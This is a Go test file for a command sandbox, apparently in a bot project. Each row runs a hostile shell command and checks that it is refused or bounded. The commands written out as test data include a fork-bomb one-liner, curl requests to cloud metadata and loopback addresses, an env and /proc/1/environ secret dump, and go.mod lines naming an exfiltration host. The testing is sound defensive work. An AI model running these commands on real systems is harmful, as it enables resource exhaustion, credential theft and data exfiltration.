//go:build linux

package sandbox_test

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/issuesmith/issuesmith/internal/sandbox"
)

// attackLimits are small, so each row is quick on a shared 2-core machine.
var attackLimits = sandbox.Limits{Memory: 64 * sandbox.MiB, Procs: 256, FileSize: 64 * sandbox.MiB,
	Written: 64 * sandbox.MiB, Tmp: 16 * sandbox.MiB, Shm: 8 * sandbox.MiB, Wall: 30 * time.Second}

// attack is one hostile command run through Policy.Command, the path every
// sandboxed command takes (the coder's checks, bot replay, the language
// servers, bot try).
type attack struct {
	name   string
	script string   // sh -c script, run in the working tree
	env    []string // added to the environment handed to Command
	needs  []string // programs it needs on the host, else skipped
	limits *sandbox.Limits
	egress *sandbox.Egress // the row's way out, if any
	// The command's bound: either the limit that stops it, or text its
	// output must hold (and refused text it must not).
	limit   string
	want    []string
	notWant []string
}

// TestAttacks: each row is a hostile command that the sandbox must refuse
// or bound; the row's comment names the advisory or public report behind
// it. Programs in C (cprogs) are built with the host's gcc into a folder
// the sandbox sees read-only.
func TestAttacks(t *testing.T) {
	t.Parallel()
	need(t)
	bin := buildAttackPrograms(t)
	ro := []string{bin}
	// A service on the host's loopback, as a database or an admin page
	// would be; port 80 of 127.0.0.1 is it, for the proxy.
	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("host-loopback-secret\n"))
	}))
	t.Cleanup(inside.Close) // the rows run after this function returns
	names := resolveTo(map[string]string{"internal.test": "127.0.0.1", "private.test": "10.1.2.3",
		"metadata.test": "169.254.169.254", "metadata6.test": "fd00:ec2::254"})
	dial := dialPort(map[string]string{"127.0.0.1:80": inside.Listener.Addr().String(), "127.0.0.1:443": inside.Listener.Addr().String()})
	egress := func(hosts ...string) *sandbox.Egress {
		return &sandbox.Egress{Hosts: hosts, Resolve: names, Dial: dial, Log: func(sandbox.EgressRequest) {}}
	}
	rows := []attack{
		// Docker's default seccomp profile refuses ptrace (before kernel
		// 4.8 it bypassed seccomp; reading other processes' memory is how
		// a process escapes its bounds): refused with EPERM.
		{name: "ptrace", script: bin + "/syscalls ptrace", want: []string{"ptrace: Operation not permitted"}},
		// CVE-2022-0492 (cgroup release_agent escape) starts with mount
		// inside a new namespace; mount itself is refused.
		{name: "mount", script: bin + "/syscalls mount", want: []string{"mount: Operation not permitted"}},
		// Nested user namespaces hand their creator every capability inside:
		// the first step of CVE-2022-0185, CVE-2023-32233 and most kernel
		// exploits from containers; unshare -U and clone(CLONE_NEWUSER)
		// are refused (Docker's default profile, bwrap --disable-userns).
		{name: "unshare -U", script: "unshare -U true 2>&1; " + bin + "/syscalls clone-newuser",
			want: []string{"unshare failed", "clone-newuser: Operation not permitted"}},
		// keyctl: the kernel keyring is not namespaced (Docker's profile;
		// CVE-2016-0728 was a keyring use-after-free).
		{name: "keyctl", script: bin + "/syscalls keyctl", want: []string{"keyctl: Operation not permitted"}},
		// bpf: eBPF verifier bugs are a kernel-exploit staple
		// (CVE-2021-3490, CVE-2021-31440); Docker refuses bpf.
		{name: "bpf", script: bin + "/syscalls bpf", want: []string{"bpf: Operation not permitted"}},
		// userfaultfd and perf_event_open: exploit primitives Docker refuses
		// (CVE-2016-5195 race windows, CVE-2023-2235).
		{name: "userfaultfd, perf_event_open", script: bin + "/syscalls userfaultfd perf_event_open",
			want: []string{"userfaultfd: Operation not permitted", "perf_event_open: Operation not permitted"}},
		// The same calls through the i386 table (int 0x80 from a 64-bit
		// process) get ENOSYS, not a way around the filter (the bypass
		// CVE-2009-0835 described for seccomp mode 1).
		{name: "i386 table", script: bin + "/syscalls int80", want: []string{"int80: Function not implemented"}},
		// The sandbox's root and /etc are read-only (runc's readonly rootfs
		// advice; CVE-2019-5736 overwrote a host binary through a writable
		// path): a write to / or /etc is refused.
		{name: "write / and /etc", script: `echo x > /pwned 2>&1; echo x > /etc/pwned 2>&1; echo x > /dev/pwned 2>&1; echo ok > out && cat out`,
			want:    []string{"/pwned: Read-only file system", "/etc/pwned: Read-only file system", "/dev/pwned: Read-only file system", "ok"},
			notWant: []string{"\n/pwned"}},
		// /dev/shm was bwrap's unsized tmpfs (half the host's RAM, issue 33:
		// 5.5 GiB held past a 4 GiB limit); now sized: a fill stops at it.
		{name: "/dev/shm fill", script: `head -c 64M /dev/zero > /dev/shm/fill; ls -l /dev/shm/fill`,
			want: []string{"No space left on device", " 8388608 "}},
		// What /tmp and /dev/shm hold is memory the host gives: counted in
		// the memory limit (issue 33: 5.5 GiB held past a 4 GiB limit), so
		// two 48 MiB tmpfs mounts cannot hold 96 MiB under a 64 MiB limit.
		{name: "tmpfs counted as memory", limits: &sandbox.Limits{Memory: 64 * sandbox.MiB, Tmp: 48 * sandbox.MiB,
			Shm: 48 * sandbox.MiB, Procs: 64, Wall: 30 * time.Second},
			script: `head -c 40M /dev/zero > /tmp/a; head -c 40M /dev/zero > /dev/shm/b; sleep 20`, limit: "memory"},
		// memfd_create memory is in no mount and, written but not mapped,
		// in no process's RSS (issue 33; memfd is how CVE-2019-5736's
		// runc fix and many fileless payloads hold data): counted.
		// (FileSize bounds a memfd too: raised here to reach the memory limit.)
		{name: "memfd growth", script: bin + "/syscalls memfd", limit: "memory",
			limits: &sandbox.Limits{Memory: 64 * sandbox.MiB, FileSize: sandbox.GiB, Procs: 64, Wall: 30 * time.Second}},
		// SSRF through the proxy to the host's own services: a name the
		// operator allowed that resolves to loopback (DNS rebinding, e.g.
		// CVE-2022-24735-style attacks on allowlisting proxies) is refused.
		{name: "name resolving to 127.0.0.1", egress: egress("internal.test"), needs: []string{"curl"},
			script:  `curl -sS http://internal.test/ 2>&1; curl -sS http://localhost/ 2>&1`,
			want:    []string{"internal.test resolves to 127.0.0.1, a loopback address", "host localhost:80 is not on the allowlist"},
			notWant: []string{"host-loopback-secret"}},
		// A private address and the cloud metadata service (the Capital One
		// breach, 2019: SSRF to 169.254.169.254 for IAM credentials).
		{name: "private and metadata addresses", egress: egress("private.test", "metadata.test", "metadata6.test"), needs: []string{"curl"},
			script: `for h in private.test metadata.test metadata6.test; do curl -sS http://$h/latest/meta-data/ 2>&1; echo; done`,
			want: []string{"private.test resolves to 10.1.2.3, a private address", "metadata.test resolves to 169.254.169.254, the cloud metadata address",
				"metadata6.test resolves to fd00:ec2::254, the cloud metadata address"}},
		// The same loopback service is reachable when the operator lists
		// that exact address (the only way in).
		{name: "exact address listed", egress: egress("internal.test", "127.0.0.1"), needs: []string{"curl"},
			script: `curl -sS http://internal.test/ 2>&1`, want: []string{"host-loopback-secret"}},
		// A bare name is ports 443 and 80 only (issue 33: every port of
		// the host was open, e.g. a registry host's SSH or admin port).
		{name: "bare name on another port", egress: egress("internal.test", "127.0.0.1"), needs: []string{"curl"},
			script:  `curl -sS http://internal.test:8080/ 2>&1`,
			want:    []string{"port 8080 of internal.test is not allowed"},
			notWant: []string{"host-loopback-secret"}},
		// A CONNECT tunnel carries any protocol: only to an allowed host and
		// port (Squid's default "CONNECT to SSL_ports only" rule).
		{name: "CONNECT to a disallowed port", egress: egress("internal.test", "127.0.0.1"), needs: []string{"curl"},
			script: `curl -sS --proxytunnel http://internal.test:22/ 2>&1; curl -sS https://internal.test:25/ 2>&1`,
			want:   []string{"response 403"}, notWant: []string{"host-loopback-secret"}},
		// Secrets in the environment the caller hands over (issue 33: bot
		// replay passed GITHUB_TOKEN, cloud and model keys and DATABASE_URL;
		// the Codecov bash-uploader breach, 2021, harvested CI
		// environments): an allow-list keeps every one out.
		{name: "environment secrets", env: []string{"GITHUB_TOKEN=ghs_secret1", "GH_TOKEN=gho_secret2",
			"OPENAI_API_KEY=sk-secret3", "ANTHROPIC_API_KEY=sk-ant-secret4", "AWS_SECRET_ACCESS_KEY=secret5",
			"DATABASE_URL=postgres://bot:secret6@db/issuesmith", "GOOGLE_APPLICATION_CREDENTIALS=/secret7.json",
			"MY_SERVICE_TOKEN=secret8", "ISSUESMITH_PRIVATE_KEY=secret9", "LANG=C.UTF-8"},
			script: `env; cat /proc/1/environ 2>/dev/null | tr '\0' '\n'; echo env-listed`,
			want:   []string{"env-listed", "LANG=C.UTF-8", "HOME=/tmp"},
			notWant: []string{"secret1", "secret2", "secret3", "secret4", "secret5", "secret6", "secret7", "secret8",
				"secret9", "GITHUB_TOKEN", "DATABASE_URL"}},
		// A fork bomb (CWE-400; Docker's --pids-limit advice): the pages
		// its copies share count once (proportional set size), so it is
		// named for what it is — issue 33 saw "memory 4.0 GiB"; with these
		// limits the summed RSS said "memory 404 MiB resident". It doubles
		// ten times and stops (2,047 processes at most), so a late watchdog
		// cannot take the shared machine's PIDs: as root, RLIMIT_NPROC
		// holds nothing.
		{name: "fork bomb", limits: &sandbox.Limits{Memory: 256 * sandbox.MiB, Procs: 1024, Wall: 30 * time.Second},
			script: forkBomb, limit: "processes"},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			row.run(t, ro)
		})
	}
	// A sandboxed command writes require and replace lines naming a host of
	// its choosing into go.mod; the bot's next command would run `go mod
	// download` on the host with the operator's proxy: the path itself is
	// the exfiltrated data (issue 33; the go command's own GOVCS/GOPROXY
	// notes on module paths as requests, CVE-2023-29405-style module
	// path abuse). The download is refused naming the module, and the
	// proxy sees no request.
	t.Run("go.mod names an exfiltration host", func(t *testing.T) {
		t.Parallel()
		needGo(t)
		var mu sync.Mutex
		var asked []string
		proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			asked = append(asked, r.URL.Path)
			mu.Unlock()
			http.NotFound(w, r)
		}))
		t.Cleanup(proxy.Close)
		caches, err := sandbox.NewCaches(t.TempDir(), sandbox.CacheOptions{DownloadEnv: []string{"GOPROXY=" + proxy.URL, "GOSUMDB=off"}})
		must(t, err)
		dir := t.TempDir()
		must(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.22\n"), 0o644))
		p := sandbox.Policy{Caches: caches}
		for _, line := range []string{"require exfil.example/leak-hunter2 v1.0.0", "replace github.com/x/y => exfil.example/leak-hunter3 v1.0.0"} {
			out, err := runAttack(t, p, dir, "echo '"+line+"' >> go.mod", os.Environ())
			if err != nil {
				t.Fatalf("writing go.mod: %v\n%s", err, out)
			}
			_, err = p.Command(t.Context(), dir, []string{"go", "build", "./..."}, os.Environ())
			var mhe *sandbox.ModuleHostError
			if !errors.As(err, &mhe) || mhe.Host != "exfil.example" {
				t.Fatalf("want a ModuleHostError for exfil.example, got %v", err)
			}
			t.Log(err)
			must(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.22\n"), 0o644))
		}
		// With the host allowed the same go.mod is asked for: the proxy
		// would have seen it.
		must(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.22\n\nrequire exfil.example/leak-hunter2 v1.0.0\n"), 0o644))
		_, err = sandbox.Policy{Caches: caches, ModuleHosts: []string{"exfil.example"}}.Command(t.Context(), dir, []string{"true"}, os.Environ())
		mu.Lock()
		defer mu.Unlock()
		if err == nil || len(asked) == 0 || !strings.Contains(strings.Join(asked, " "), "leak-hunter2") {
			t.Fatalf("allowed: err %v, proxy asked %v", err, asked)
		}
		for _, a := range asked {
			if strings.Contains(a, "hunter3") {
				t.Errorf("the refused replace reached the proxy: %s", a)
			}
		}
	})
	// Two runs at once on the same disk: the hostile one writes 320 MiB
	// into its tree (within its own budget); the innocent one, with a
	// 64 MiB budget, writes little and must end normally (issue 33: one
	// run's 8 GiB stopped an innocent parallel run, the "written" limit
	// watching the whole file system's free space; the noisy-neighbour
	// problem of shared-disk CI runners).
	t.Run("parallel innocent run", func(t *testing.T) {
		t.Parallel()
		hostile := sandbox.Policy{Caches: noCaches(t), Limits: sandbox.Limits{Written: 2 * sandbox.GiB, FileSize: 64 * sandbox.MiB, Wall: time.Minute}}
		innocent := sandbox.Policy{Caches: noCaches(t), Limits: sandbox.Limits{Written: 64 * sandbox.MiB, Wall: time.Minute}}
		var wg sync.WaitGroup
		var hostileErr error
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, hostileErr = runAttack(t, hostile, t.TempDir(), `sleep 0.5; for i in 1 2 3 4 5; do head -c 64M /dev/zero > f$i; done; sync; sleep 1`, os.Environ())
		}()
		out, err := runAttack(t, innocent, t.TempDir(), `for i in 1 2 3 4 5 6; do echo $i > n; sleep 0.5; done; echo innocent-done`, os.Environ())
		wg.Wait()
		if err != nil || !strings.Contains(out, "innocent-done") {
			t.Fatalf("the innocent run was stopped: %v\n%s", err, out)
		}
		if hostileErr != nil {
			t.Logf("hostile run: %v", hostileErr)
		}
	})
}

// forkBomb doubles its processes ten times, then each waits.
const forkBomb = `b() { if [ $1 -ge 10 ]; then exec sleep 30; fi; b $(($1+1)) & b $(($1+1)) & wait; }; b 0`

// run runs the row and checks its refusal or bound.
func (a attack) run(t *testing.T, ro []string) {
	t.Helper()
	for _, n := range a.needs {
		if _, err := exec.LookPath(n); err != nil {
			t.Skip(n + " not installed")
		}
	}
	l := attackLimits
	if a.limits != nil {
		l = *a.limits
	}
	p := sandbox.Policy{Limits: l, Caches: noCaches(t), ReadOnly: ro, Egress: a.egress}
	out, err := runAttack(t, p, t.TempDir(), a.script, append(os.Environ(), a.env...))
	var le *sandbox.LimitError
	switch {
	case a.limit != "" && !errors.As(err, &le):
		t.Fatalf("want the %s limit, got %v\n%s", a.limit, err, clipOut(out))
	case a.limit != "" && le.Limit != a.limit:
		t.Fatalf("stopped by %q (%s), want %q\n%s", le.Limit, le.Detail, a.limit, clipOut(out))
	case a.limit == "" && le != nil:
		t.Fatalf("stopped by a limit: %v\n%s", le, clipOut(out))
	}
	if le != nil {
		t.Logf("%v", le)
	}
	for _, w := range a.want {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q:\n%s", w, clipOut(out))
		}
	}
	for _, w := range a.notWant {
		if strings.Contains(out, w) {
			t.Errorf("output holds %q:\n%s", w, clipOut(out))
		}
	}
}

// runAttack runs script under p with env and returns its output and
// Wait's error.
func runAttack(t *testing.T, p sandbox.Policy, dir, script string, env []string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd, err := p.Command(ctx, dir, []string{"sh", "-c", script}, env)
	must(t, err)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err = cmd.Run()
	return out.String(), err
}

// noCaches are empty caches of the test's own.
func noCaches(t *testing.T) *sandbox.Caches {
	t.Helper()
	c, err := sandbox.NewCaches(t.TempDir(), sandbox.CacheOptions{})
	must(t, err)
	return c
}

// buildAttackPrograms compiles cprogs with the host's gcc into a folder
// the rows' sandboxes get read-only.
func buildAttackPrograms(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Skip("gcc not installed")
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "syscalls.c")
	must(t, os.WriteFile(src, []byte(cprogs), 0o644))
	if out, err := exec.Command("gcc", "-O1", "-o", filepath.Join(dir, "syscalls"), src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, out)
	}
	return dir
}
